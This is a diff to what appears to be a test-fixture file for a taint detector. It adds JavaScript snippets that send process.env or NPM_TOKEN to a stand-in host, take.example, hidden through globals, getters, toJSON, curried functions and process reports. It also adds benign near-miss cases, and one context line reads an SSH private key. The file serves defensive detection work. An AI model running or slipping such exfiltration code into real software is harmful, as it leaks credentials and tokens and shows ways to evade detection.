@@ -33,8 +33,50 @@ export const ofMembers: DetectorExamples = {
       why: 'a name that somebody else chose',
       attributes: { source: 'request', sink: 'process.command', to: 'git' },
     },
+    {
+      code: "globalThis.kept = process.env; fetch('https://take.example', { method: 'POST', body: JSON.stringify(globalThis.kept) });",
+      why: 'what is kept under a name of the global object',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const box = { get all() { const kept = process.env; return kept; } }; fetch('https://take.example', { method: 'POST', body: JSON.stringify(box.all) });",
+      why: 'what a getter gives',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "class Keys { get secret() { if (!this.read) this.read = process.env.NPM_TOKEN; return this.read; } } const keys = new Keys(); fetch('https://take.example', { method: 'POST', body: keys.secret });",
+      why: 'the same of a class, in several lines',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const box = { size: 1, toJSON() { return process.env; } }; fetch('https://take.example', { method: 'POST', body: JSON.stringify(box) });",
+      why: 'what an object says it is worth as a text',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const sender = (path) => (text) => fetch('https://take.example/' + path, { method: 'POST', body: text }); const send = sender('x'); send(JSON.stringify(process.env));",
+      why: 'a function that another one gives',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const { environmentVariables } = process.report.getReport(); fetch('https://take.example', { method: 'POST', body: JSON.stringify(environmentVariables) });",
+      why: 'the environment out of a report of the process',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
   ],
   good: [
+    {
+      code: "globalThis.kept = process.env; globalThis.port = 80; fetch('https://count.example', { method: 'POST', body: JSON.stringify(globalThis.port) });",
+      why: 'another name of the global object',
+    },
+    {
+      code: "const box = { get all() { return process.env; }, count: 2 }; fetch('https://count.example', { method: 'POST', body: JSON.stringify(box.count) });",
+      why: 'another member than the getter',
+    },
+    {
+      code: "const { header } = process.report.getReport(); fetch('https://count.example', { method: 'POST', body: JSON.stringify(header.glibcVersionRuntime) });",
+      why: 'which machine it is, out of a report of the process',
+    },
     {
       code: "import { readFileSync } from 'node:fs'; const key = readFileSync('/home/ada/.ssh/id_rsa'); const box = { size: key.length }; await fetch(`https://count.example/${box.size}`);",
       why: 'how long a key is',
